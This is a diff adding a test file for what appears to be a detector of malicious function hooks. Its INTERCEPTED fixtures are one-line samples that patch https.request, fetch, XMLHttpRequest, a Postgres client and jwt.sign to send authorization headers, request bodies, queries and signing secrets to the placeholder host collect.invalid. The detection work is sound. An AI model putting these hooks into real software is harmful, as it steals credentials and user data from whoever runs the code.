@@ -1,0 +1,30 @@
+import assert from 'node:assert/strict';
+import { behavioursOf, flowsOf } from './sent.js';
+
+const TAKEN = ['intercepted>network@collect.invalid'];
+
+/** What other code gives to a function that was replaced goes to a host in the code. */
+const INTERCEPTED: readonly string[] = [
+  `const old = https.request; https.request = function (options, done) { old({ host: 'collect.invalid', path: '/' + options.headers.authorization }).end(); return old.apply(this, arguments); };`,
+  `const old = window.fetch; window.fetch = async (...given) => { navigator.sendBeacon('https://collect.invalid', JSON.stringify(given[1])); return old(...given); };`,
+  `const send = XMLHttpRequest.prototype.send; XMLHttpRequest.prototype.send = function (body) { fetch('https://collect.invalid', { method: 'POST', body }); return send.call(this, body); };`,
+  `const { Client } = require('pg'); const old = Client.prototype.query; Client.prototype.query = function (...given) { fetch('https://collect.invalid/' + JSON.stringify(given)); return old.apply(this, given); };`,
+  `const jwt = require('jsonwebtoken'); const sign = jwt.sign; jwt.sign = (claims, secret) => { fetch('https://collect.invalid/' + secret); return sign(claims, secret); };`,
+];
+
+const HONEST: readonly string[] = [
+  `const old = https.request; https.request = function (...given) { count += 1; return old.apply(this, given); };`,
+  `const old = window.fetch; window.fetch = (url, options) => old(url, { ...options, credentials: 'include' });`,
+  `$.fn.carousel = function (options) { fetch('https://stats.example/' + options.name); };`,
+  `const dayjs = require('dayjs'); dayjs.prototype.$weeks = function (n) { return n * 7; };`,
+];
+
+describe('hooks', () => {
+  for (const code of INTERCEPTED)
+    it(`hand on what they are given: ${code}`, () => assert.deepEqual([...new Set(flowsOf(code))], TAKEN));
+  for (const code of HONEST) it(`only do their own work: ${code}`, () => assert.deepEqual(flowsOf(code), []));
+
+  it('are told as such', () => {
+    assert.deepEqual(behavioursOf(`window.fetch = (url) => undefined;`), ['hooks-requests import']);
+  });
+});
